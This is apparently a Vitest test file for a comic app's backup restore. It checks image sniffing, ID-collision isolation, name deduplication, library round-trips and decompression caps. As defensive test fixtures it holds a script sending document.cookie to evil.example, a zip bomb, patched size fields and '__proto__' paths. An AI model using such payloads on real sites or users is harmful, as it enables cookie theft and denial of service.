// Restore safety (issue 18 #1, #2, #5) and the library in the backup, names told apart (issue 12).
import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { beforeEach, describe, expect, it } from 'vitest';
import { BACKUP_CAPS, packBackup, sha256Hex, unpackBackup, type UnpackResult } from '../../src/core/backup/format';
import { extract, readDirectory } from '../../src/core/backup/zip-read';
import { writeBackup } from '../../src/store/backup';
import { closeDB, getDB } from '../../src/store/db';
import { addPanels, listPanels, setPanelResult } from '../../src/store/panels';
import { createProject, listProjects, ProjectNameTakenError, renameProject } from '../../src/store/projects';
import { getBlob } from '../../src/store/blobs';
import { addReference, getTagLabels, listReferences, setTagLabels } from '../../src/store/references';
import { openIndex, loadChunks } from '../../src/store/vectors';
import { addCharacter } from '../../src/store/characters';
import { saveHints } from '../../src/store/hints';
import { createPalette } from '../../src/store/palettes';
import { saveTypedStory } from '../../src/store/story';
import { png, snapshot, collectBytes } from './backup-helpers';
import { storedBytes } from './stored-bytes';

beforeEach(async () => {
  await closeDB();
  globalThis.indexedDB = new IDBFactory();
});

type Manifest = Record<string, any>; // parsed JSON, edited freely by the cases

function rezip(
  zip: Uint8Array,
  edit: (m: Manifest, files: Record<string, Uint8Array>) => void | Promise<void>,
): Promise<Uint8Array> {
  const files = unzipSync(zip);
  const m = JSON.parse(new TextDecoder().decode(files['manifest.json'])) as Manifest;
  return Promise.resolve(edit(m, files)).then(() =>
    zipSync({ ...files, 'manifest.json': strToU8(JSON.stringify(m)) }, { level: 0 }),
  );
}

function code(r: UnpackResult): string {
  return r.ok ? 'ok' : r.code;
}

async function project(name: string, seed: number) {
  const p = await createProject(name);
  const panels = await addPanels(p.id, [
    { bytes: png(seed, 5, 3), type: 'image/png', width: 5, height: 3, sourceName: `${name}-a.png` },
    { bytes: png(seed + 1, 4, 4), type: 'image/png', width: 4, height: 4, sourceName: `${name}-b.png` },
  ]);
  await setPanelResult(panels[0].id, png(seed + 2, 5, 3), 'image/png');
  const pal = await createPalette(p.id, 'Hero', [{ label: 'hair', rgb: [10, 20, 30] }]);
  await saveHints(panels[1].id, [
    { kind: 'point', x: 1, y: 2, radius: 3, rgb: [10, 20, 30], ref: `${pal.id}/hair` } as never,
  ]);
  await addCharacter(p.id, {
    name: 'Mina',
    image: { bytes: png(seed + 3), type: 'image/png' },
    paletteId: pal.id,
    paletteName: 'Hero',
  });
  return p;
}

const HTML = strToU8('<!doctype html><script>fetch("https://evil.example/?"+document.cookie)</script>');

describe('restore validates every blob as an image', () => {
  it('refuses a backup with an HTML blob (typed text/html or image/png) and writes nothing', async () => {
    const p = await project('Safe', 1);
    const zip = await packBackup(await collectBytes(p.id));
    const before = await snapshot();
    for (const claimed of ['text/html', 'image/png']) {
      const evil = await rezip(zip, async (m, files) => {
        const e = m.blobs[0];
        files[e.path] = HTML;
        e.size = HTML.length;
        e.sha256 = await sha256Hex(HTML);
        e.type = claimed;
      });
      const r = await unpackBackup(evil);
      expect(code(r), claimed).toBe('backup-bad-image');
    }
    expect(await snapshot()).toEqual(before);
  });

  it('refuses oversized, truncated and undecodable images; stores the sniffed type, not the claimed one', async () => {
    const p = await project('Types', 2);
    const zip = await packBackup(await collectBytes(p.id));
    const swap = (bytes: Uint8Array, type = 'image/png') =>
      rezip(zip, async (m, files) => {
        const e = m.blobs[0];
        files[e.path] = bytes;
        e.size = bytes.length;
        e.sha256 = await sha256Hex(bytes);
        e.type = type;
      });
    expect(code(await unpackBackup(await swap(new Uint8Array(png(9, 20_000, 1)))))).toBe('backup-bad-image'); // wider than 16,384
    expect(code(await unpackBackup(await swap(new Uint8Array(png(9)).subarray(0, 40))))).toBe('backup-bad-image'); // truncated
    expect(code(await unpackBackup(await swap(new Uint8Array(0))))).toBe('backup-bad-image');
    // A whole PNG claimed as text/html comes back as image/png.
    const r = await unpackBackup(await swap(new Uint8Array(png(9, 5, 3)), 'text/html'));
    if (!r.ok) throw new Error(r.detail);
    expect(r.blobs.every((b) => b.type === 'image/png')).toBe(true);
    // The worker's decoder check: a refusal there refuses the backup.
    const refused = await unpackBackup(zip, { checkImage: async () => 'decoder refused the image' });
    expect(code(refused)).toBe('backup-bad-image');
    const accepted = await unpackBackup(zip, {
      checkImage: async (_b, _t, w, h) => (w > 0 && h > 0 ? null : 'no size'),
    });
    expect(accepted.ok).toBe(true);
  });
});

describe('restore never touches records outside the restored project', () => {
  it('a backup with a new project id but colliding panel, blob, hint, palette, character and reference ids', async () => {
    const victim = await project('Victim', 10);
    const index = await openIndex('clip/toon-clip', 4);
    const ref = await addReference(
      { bytes: png(50), type: 'image/png', name: 'victim-ref.png' },
      new Float32Array([1, 0, 0, 0]),
      'clip/toon-clip',
      index,
    );
    const attacker = await project('Attacker', 20);
    const ownContent = await collectBytes(attacker.id);
    const victimContent = await collectBytes(victim.id);
    // Rename every id of the attacker's backup to the victim's ids, project id new.
    const ids = new Map<string, string>();
    ownContent.panels.forEach((x, i) => ids.set(x.id, victimContent.panels[i].id));
    ownContent.panels.forEach((x, i) => {
      ids.set(x.originalBlobId, victimContent.panels[i].originalBlobId);
      if (x.resultBlobId) ids.set(x.resultBlobId, victimContent.panels[i].resultBlobId!);
    });
    ownContent.palettes.forEach((x, i) => ids.set(x.id, victimContent.palettes[i].id));
    ownContent.characters!.forEach((x, i) => {
      ids.set(x.id, victimContent.characters![i].id);
      ids.set(x.blobId, victimContent.characters![i].blobId);
    });
    const evilRefBlob = png(77);
    const zip = await rezip(await packBackup(ownContent), async (m, files) => {
      const re = (id: string) => ids.get(id) ?? id;
      m.project.id = 'brand-new-project-id';
      m.project.panelIds = m.project.panelIds.map(re);
      for (const x of m.panels)
        Object.assign(x, {
          id: re(x.id),
          projectId: 'brand-new-project-id',
          originalBlobId: re(x.originalBlobId),
          ...(x.resultBlobId ? { resultBlobId: re(x.resultBlobId) } : {}),
        });
      for (const x of m.hints) {
        Object.assign(x, { id: re(x.id), panelId: re(x.panelId) });
        x.hints = x.hints.map((h: { ref?: string }) =>
          h.ref ? { ...h, ref: `${re(h.ref.split('/')[0])}/${h.ref.split('/')[1]}` } : h,
        );
      }
      for (const x of m.palettes) Object.assign(x, { id: re(x.id), projectId: 'brand-new-project-id' });
      for (const x of m.characters)
        Object.assign(x, { id: re(x.id), blobId: re(x.blobId), paletteId: re(x.paletteId) });
      for (const x of m.blobs) {
        const path = `blobs/${re(x.id)}`;
        files[path] = files[x.path];
        if (path !== x.path) delete files[x.path];
        Object.assign(x, { id: re(x.id), path });
      }
      // The library reference keeps the victim's reference and blob ids, with other bytes.
      const entry = m.blobs.find((b: { id: string }) => b.id === ref.blobId);
      files[entry.path] = new Uint8Array(evilRefBlob);
      Object.assign(entry, { size: evilRefBlob.byteLength, sha256: await sha256Hex(evilRefBlob) });
      const libRef = m.library.references.find((x: { id: string }) => x.id === ref.id);
      Object.assign(libRef, { name: 'evil.png', tags: [{ label: 'x', score: 1 }] });
    });
    const r = await unpackBackup(zip);
    if (!r.ok) throw new Error(r.detail);
    expect(r.panels.map((x) => x.id)).toEqual(victimContent.panels.map((x) => x.id)); // the collisions are real
    expect(r.library!.references.map((x) => [x.id, x.blobId])).toEqual([[ref.id, ref.blobId]]);

    const before = await snapshot();
    const { project: restored } = await writeBackup(r);
    const after = await snapshot();
    // Every record that was there is still there, byte for byte (only the current project changed).
    for (const [store, recs] of Object.entries(before)) {
      for (const rec of recs) {
        if (store === 'settings' && (rec as { key: string }).key === 'currentProjectId') continue;
        expect(after[store], `${store} record kept`).toContainEqual(rec);
      }
    }
    expect((await listPanels(victim.id)).map((x) => x.sourceName)).toEqual(['Victim-a.png', 'Victim-b.png']);
    // The restored project is whole: its own panels, images, hint (with its palette ref), palette, character.
    expect(restored.id).not.toBe('brand-new-project-id');
    const panels = await listPanels(restored.id);
    expect(panels.map((x) => x.sourceName)).toEqual(['Attacker-a.png', 'Attacker-b.png']);
    for (const [i, x] of panels.entries()) {
      expect(victimContent.panels.some((v) => v.id === x.id || v.originalBlobId === x.originalBlobId)).toBe(false);
      const original = ownContent.blobs.find((b) => b.id === ownContent.panels[i].originalBlobId)!;
      expect(new Uint8Array(await storedBytes(x.originalBlobId))).toEqual(new Uint8Array(original.bytes));
    }
    const [pal] = await (await getDB()).getAllFromIndex('palettes', 'projectId', restored.id);
    const hint = await (await getDB()).get('hints', panels[1].id);
    expect((hint!.hints[0] as { ref: string }).ref).toBe(`${pal.id}/hair`);
    const refs = await listReferences();
    expect(refs.map((x) => x.name).sort()).toEqual(['evil.png', 'victim-ref.png']);
    expect(new Set(refs.map((x) => x.id)).size).toBe(2);
  });
});

describe('hint palette refs', () => {
  it('follow the restored palette; a ref to a palette outside the backup is dropped, the hint kept', async () => {
    const p = await project('Refs', 90);
    const zip = await rezip(await packBackup(await collectBytes(p.id)), (m) => {
      m.hints[0].hints.push({
        kind: 'point',
        x: 2,
        y: 2,
        radius: 3,
        rgb: [1, 2, 3],
        ref: 'some-other-projects-palette/skin',
      });
    });
    const r = await unpackBackup(zip);
    if (!r.ok) throw new Error(r.detail);
    const { project: restored } = await writeBackup(r);
    const [pal] = await (await getDB()).getAllFromIndex('palettes', 'projectId', restored.id);
    const panels = await listPanels(restored.id);
    const hints = (await (await getDB()).get('hints', panels[1].id))!.hints as { ref?: string; x: number }[];
    expect(hints.map((h) => [h.x, h.ref])).toEqual([
      [1, `${pal.id}/hair`],
      [2, undefined],
    ]);
  });
});

describe('project names are told apart', () => {
  it('restoring the same backup twice next to the default project gives three distinct names', async () => {
    const p = await project('My first strip', 30);
    const r = await unpackBackup(await packBackup(await collectBytes(p.id)));
    if (!r.ok) throw new Error(r.detail);
    const a = await writeBackup(r);
    const b = await writeBackup(r);
    expect([a.project.name, b.project.name]).toEqual(['My first strip (2)', 'My first strip (3)']);
    const names = (await listProjects()).map((x) => x.name).sort();
    expect(names).toEqual(['My first strip', 'My first strip (2)', 'My first strip (3)']);
    expect(new Set((await listProjects()).map((x) => x.id)).size).toBe(3);
  });

  it('into a fresh profile: an unused default project of the same name is replaced, a used one is kept', async () => {
    const p = await project('My first strip', 50);
    const zip = await packBackup(await collectBytes(p.id));
    for (const used of [false, true]) {
      await closeDB();
      globalThis.indexedDB = new IDBFactory();
      const fresh = await createProject('My first strip'); // what the app makes on first run
      if (used) await saveTypedStory(fresh.id, '미나가 바닷가를 걷는다.'); // typed, never drafted
      const r = await unpackBackup(zip);
      if (!r.ok) throw new Error(r.detail);
      const restored = await writeBackup(r);
      const names = (await listProjects()).map((x) => x.name).sort();
      if (used) {
        expect(names).toEqual(['My first strip', 'My first strip (2)']);
        expect(restored.replaced).toBeUndefined();
      } else {
        expect(names).toEqual(['My first strip']);
        expect(restored.project.name).toBe('My first strip');
        expect(restored.replaced).toBe(fresh.id);
      }
      expect((await listPanels(restored.project.id)).length).toBe(2);
    }
  });

  it('create auto-suffixes a taken name; rename to a taken name (any case, spaces) is refused and changes nothing', async () => {
    const a = await createProject('New strip');
    const b = await createProject('New strip');
    const c = await createProject('  new STRIP ');
    expect([a.name, b.name, c.name]).toEqual(['New strip', 'New strip (2)', 'new STRIP (3)']);
    const before = await snapshot();
    await expect(renameProject(c.id, ' NEW strip ')).rejects.toBeInstanceOf(ProjectNameTakenError);
    await expect(renameProject(c.id, 'new strip (2)')).rejects.toThrow(/already exists/);
    expect(await snapshot()).toEqual(before);
    expect((await renameProject(c.id, 'New Strip (3)')).name).toBe('New Strip (3)'); // its own name, other case
    expect((await renameProject(c.id, 'Chapter 3')).name).toBe('Chapter 3');
  });
});

describe('the reference library travels in the backup', () => {
  async function library() {
    const index = await openIndex('clip/toon-clip', 8);
    const vec = (k: number) => Float32Array.from({ length: 8 }, (_, i) => Math.sin(k * 3 + i));
    const p = await project('Lib', 40);
    const refs = [];
    for (let k = 0; k < 3; k++) {
      refs.push(
        await addReference(
          {
            bytes: png(60 + k, 3 + k, 2),
            type: 'image/png',
            name: `ref-${k}.png`,
            ...(k === 0 ? { projectId: p.id } : {}),
          },
          vec(k),
          'clip/toon-clip',
          index,
          [
            { label: '고양이', score: 0.25 + k / 10 },
            { label: 'tree', score: 0.1 },
          ],
        ),
      );
    }
    await setTagLabels(['고양이', 'tree']);
    return { p, refs, index };
  }

  async function vectorBytes(): Promise<Map<string, string>> {
    const out = new Map<string, string>();
    const chunks = new Map((await loadChunks('clip/toon-clip')).map((c) => [c.id, c]));
    for (const r of await listReferences()) {
      const c = chunks.get(r.chunkId)!;
      expect(c.ids[r.row]).toBe(r.id);
      out.set(r.name, await sha256Hex(new Uint8Array(c.data, r.row * c.dim * 4, c.dim * 4).slice()));
    }
    return out;
  }

  it('round-trips images, vectors and tags byte for byte into a fresh profile; search finds them; twice adds nothing', async () => {
    const { p, index } = await library();
    const images = new Map(
      await Promise.all(
        (await listReferences()).map(async (r) => [r.name, await sha256Hex(await storedBytes(r.blobId))] as const),
      ),
    );
    const vectors = await vectorBytes();
    const tags = new Map((await listReferences()).map((r) => [r.name, r.tags]));
    // By name: the fixture's references share createdAt, so list order is the random ids' order.
    const probe = index.get((await listReferences()).find((x) => x.name === 'ref-1.png')!.id)!;
    const zip = await packBackup(await collectBytes(p.id));
    expect(Object.keys(unzipSync(zip)).filter((f) => f.startsWith('vectors/'))).toEqual(['vectors/0.f32']);

    await closeDB();
    globalThis.indexedDB = new IDBFactory(); // a fresh profile
    await createProject('My first strip');
    const r = await unpackBackup(zip);
    if (!r.ok) throw new Error(r.detail);
    const { project: restored, referencesAdded } = await writeBackup(r);
    expect(referencesAdded).toBe(3);
    const refs = await listReferences();
    // Same createdAt in the fixture; restored ids are fresh, so only the set (not the tie order) is fixed.
    expect(refs.map((x) => x.name).sort()).toEqual(['ref-0.png', 'ref-1.png', 'ref-2.png']);
    for (const x of refs) {
      expect(await sha256Hex(await storedBytes(x.blobId)), x.name).toBe(images.get(x.name));
      expect((await getBlob(x.blobId))!.type).toBe('image/png');
      expect(x.tags).toEqual(tags.get(x.name));
      expect(x.modelId).toBe('clip/toon-clip');
    }
    const byName = (n: string) => refs.find((x) => x.name === n)!;
    expect(byName('ref-0.png').projectId).toBe(restored.id);
    expect(byName('ref-1.png').projectId).toBeUndefined();
    expect(await vectorBytes()).toEqual(vectors);
    expect(await getTagLabels()).toEqual(['고양이', 'tree']);
    // The References view's index loads them and a search finds the right one first.
    const loaded = await openIndex('clip/toon-clip', 8);
    expect(loaded.size).toBe(3);
    const [top] = loaded.search(probe, 1);
    expect(refs.find((x) => x.id === top.id)?.name).toBe('ref-1.png');

    // Restoring again: a second project, no second copy of the library.
    const chunksBefore = await loadChunks('clip/toon-clip');
    const again = await writeBackup(r);
    expect(again.referencesAdded).toBe(0);
    expect(again.project.name).toBe('Lib (2)');
    expect((await listReferences()).length).toBe(3);
    expect(await loadChunks('clip/toon-clip')).toEqual(chunksBefore);
  });

  it('into a profile with its own library: existing chunks untouched, new ones appended, dedupe by image bytes', async () => {
    const { p } = await library();
    const zip = await packBackup(await collectBytes(p.id));
    await closeDB();
    globalThis.indexedDB = new IDBFactory();
    const index = await openIndex('clip/toon-clip', 8);
    // The same picture as ref-1 (same bytes, other name) and one of its own.
    await addReference(
      { bytes: png(61, 4, 2), type: 'image/png', name: 'mine-same.png' },
      new Float32Array(8).fill(1),
      'clip/toon-clip',
      index,
    );
    await addReference(
      { bytes: png(99), type: 'image/png', name: 'mine.png' },
      new Float32Array(8).fill(-1),
      'clip/toon-clip',
      index,
    );
    await setTagLabels(['mine']);
    const before = await snapshot();
    const r = await unpackBackup(zip);
    if (!r.ok) throw new Error(r.detail);
    expect((await writeBackup(r)).referencesAdded).toBe(2);
    const after = await snapshot();
    for (const rec of before.vectorChunks) expect(after.vectorChunks).toContainEqual(rec);
    for (const rec of before.references) expect(after.references).toContainEqual(rec);
    expect((await listReferences()).map((x) => x.name).sort()).toEqual([
      'mine-same.png',
      'mine.png',
      'ref-0.png',
      'ref-2.png',
    ]);
    expect(await getTagLabels()).toEqual(['mine']);
    expect((await openIndex('clip/toon-clip', 8)).size).toBe(4);
  });

  it('malformed library records and vectors are backup-damaged', async () => {
    const { p } = await library();
    const zip = await packBackup(await collectBytes(p.id));
    const cases: [string, (m: Manifest, files: Record<string, Uint8Array>) => void | Promise<void>][] = [
      ['library not an object', (m) => void (m.library = [])],
      ['reference without a name', (m) => void delete m.library.references[0].name],
      ['reference image missing', (m) => void (m.library.references[0].blobId = 'nope')],
      ['duplicate reference ids', (m) => void (m.library.references[1].id = m.library.references[0].id)],
      ['tag score not a number', (m) => void (m.library.references[0].tags[0].score = 'high')],
      ['vector set out of range', (m) => void (m.library.references[0].vector.set = 5)],
      ['vector row out of range', (m) => void (m.library.references[0].vector.row = 99)],
      [
        'two references on one row',
        (m) => void (m.library.references[1].vector = { ...m.library.references[0].vector }),
      ],
      ['vector of another model', (m) => void (m.library.references[0].modelId = 'other')],
      ['dim absurd', (m) => void (m.library.vectors[0].dim = 1e9)],
      ['vector file missing', (_m, files) => void delete files['vectors/0.f32']],
      ['vector hash wrong', (m) => void (m.library.vectors[0].sha256 = '0'.repeat(64))],
      [
        'vector NaN',
        async (m, files) => {
          const f = new Float32Array(files['vectors/0.f32'].slice().buffer);
          f[3] = NaN;
          files['vectors/0.f32'] = new Uint8Array(f.buffer);
          m.library.vectors[0].sha256 = await sha256Hex(files['vectors/0.f32']);
        },
      ],
    ];
    for (const [name, edit] of cases)
      expect(code(await unpackBackup(await rezip(zip, edit))), name).toBe('backup-damaged');
    // A version-2 backup (no library) still restores, and leaves the library alone.
    const v2 = await rezip(zip, (m) => {
      m.version = 2;
      delete m.library;
    });
    const r = await unpackBackup(v2);
    if (!r.ok) throw new Error(r.detail);
    expect(r.library).toBeUndefined();
    const before = await snapshot();
    const { project: restored } = await writeBackup(r);
    const after = await snapshot();
    expect(after.references).toEqual(before.references);
    expect(after.vectorChunks).toEqual(before.vectorChunks);
    // Only the restored project's images were added (5: two panels, one result, one character).
    expect(after.blobs.length - before.blobs.length).toBe(4);
    expect((await listPanels(restored.id)).length).toBe(2);
  });
});

describe('decompression limits', () => {
  it('caps entry count, entry size and total from the directory before inflating anything', async () => {
    const zip = zipSync(
      { 'manifest.json': strToU8('{}'), a: new Uint8Array(10), b: new Uint8Array(20), c: new Uint8Array(30) },
      { level: 0 },
    );
    expect(readDirectory(zip, { maxEntries: 3, maxEntryBytes: 100, maxTotalBytes: 1000 })).toMatchObject({
      kind: 'too-large',
    });
    expect(readDirectory(zip, { maxEntries: 9, maxEntryBytes: 25, maxTotalBytes: 1000 })).toMatchObject({
      kind: 'too-large',
    });
    expect(readDirectory(zip, { maxEntries: 9, maxEntryBytes: 100, maxTotalBytes: 50 })).toMatchObject({
      kind: 'too-large',
    });
    expect(readDirectory(zip, { maxEntries: 9, maxEntryBytes: 100, maxTotalBytes: 1000 })).toBeInstanceOf(Map);
  });

  it('a bomb: declared sizes over the cap are refused unread; a lying size stops inflating at the declared size', async () => {
    const p = await project('Bomb', 70);
    const good = await packBackup(await collectBytes(p.id));
    // 16 MiB of zeros deflates to ~16 KiB; its declared size is over a 1 MiB entry cap.
    const zeros = new Uint8Array(16 * 1024 * 1024);
    const bomb = zipSync({ ...unzipSync(good), 'junk.bin': [zeros, { level: 9 }] });
    const dir = readDirectory(bomb, { maxEntries: 100, maxEntryBytes: 1024 * 1024, maxTotalBytes: 1e9 });
    expect(dir).toMatchObject({ kind: 'too-large' });
    // Within BACKUP_CAPS, an entry the manifest does not name is never inflated: the backup restores.
    expect(BACKUP_CAPS.maxTotalBytes).toBeGreaterThan(zeros.length);
    expect((await unpackBackup(bomb)).ok).toBe(true);
    // Declared sizes above the caps: refused before inflating (patch the directory's size field).
    const huge = bomb.slice();
    const dv = new DataView(huge.buffer);
    let cd = dv.getUint32(huge.length - 22 + 16, true);
    for (let n = dv.getUint16(huge.length - 22 + 10, true); n > 0; n--) {
      const nameLen = dv.getUint16(cd + 28, true);
      if (new TextDecoder().decode(huge.subarray(cd + 46, cd + 46 + nameLen)) === 'junk.bin')
        dv.setUint32(cd + 24, 0xfffffff0, true);
      cd += 46 + nameLen + dv.getUint16(cd + 30, true) + dv.getUint16(cd + 32, true);
    }
    expect(code(await unpackBackup(huge))).toBe('backup-too-large');
    // A header that lies low: extraction stops at the declared size and reports damage.
    const map = readDirectory(bomb, { maxEntries: 100, maxEntryBytes: 1e9, maxTotalBytes: 1e10 });
    if (!(map instanceof Map)) throw new Error(map.detail);
    const entry = { ...map.get('junk.bin')!, size: 1000 };
    expect(extract(bomb, entry, 1e9)).toMatchObject({ kind: 'damaged' });
    expect(extract(bomb, map.get('junk.bin')!, 1e9)).toHaveLength(zeros.length);
  });

  it('hostile entry names and an unlisted broken entry', async () => {
    const p = await project('Names', 80);
    const good = await packBackup(await collectBytes(p.id));
    // A manifest naming a path that is not in the zip (e.g. `constructor`): damaged, not a crash.
    const r = await unpackBackup(await rezip(good, (m) => void (m.blobs[0].path = 'constructor')));
    expect(code(r)).toBe('backup-damaged');
    const proto = await unpackBackup(await rezip(good, (m) => void (m.blobs[0].path = '__proto__')));
    expect(code(proto)).toBe('backup-damaged');
    // An extra entry with a broken CRC that the manifest does not name is never read.
    const files = unzipSync(good);
    const withJunk = zipSync({ ...files, 'zz-junk': new Uint8Array([1, 2, 3, 4]) }, { level: 0 });
    const at = withJunk.length - 22;
    const dv = new DataView(withJunk.buffer);
    let cd = dv.getUint32(at + 16, true);
    for (let n = dv.getUint16(at + 10, true); n > 0; n--) {
      const nameLen = dv.getUint16(cd + 28, true);
      if (new TextDecoder().decode(withJunk.subarray(cd + 46, cd + 46 + nameLen)) === 'zz-junk')
        dv.setUint32(cd + 16, 0xdeadbeef, true);
      cd += 46 + nameLen + dv.getUint16(cd + 30, true) + dv.getUint16(cd + 32, true);
    }
    expect((await unpackBackup(withJunk)).ok).toBe(true);
  });
});
